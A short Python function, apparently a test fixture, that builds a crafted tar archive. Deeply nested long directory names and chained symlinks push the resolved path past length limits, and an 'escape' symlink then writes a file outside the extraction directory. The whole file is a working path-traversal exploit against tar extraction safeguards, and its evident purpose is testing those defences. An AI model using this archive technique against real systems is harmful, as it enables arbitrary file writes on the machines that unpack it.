import io
import tarfile


def source(folder, planted):
    path = folder / "submission.tar"
    step, target = "d" * 247, ""
    with tarfile.open(path, "w") as archive:
        def add(name, kind=tarfile.REGTYPE, link="", content=b""):
            info = tarfile.TarInfo(name)
            info.type, info.linkname, info.size, info.mode = kind, link, len(content), 0o755
            archive.addfile(info, io.BytesIO(content))

        add("a.py", content=b"1\n")
        place = ""
        for letter in "abcdefghijklmnop":
            add(f"{place}{step}", tarfile.DIRTYPE)
            add(f"{place}{letter}", tarfile.SYMTYPE, step)
            place += f"{step}/"
            target += f"{letter}/"
        add(f"{target}{'l' * 254}", tarfile.SYMTYPE, "../" * 16)
        add("escape", tarfile.SYMTYPE, f"{target}{'l' * 254}/../../../../../../../../../..{planted.markers}")
        add("escape/escaped", content=b"x")
    return path
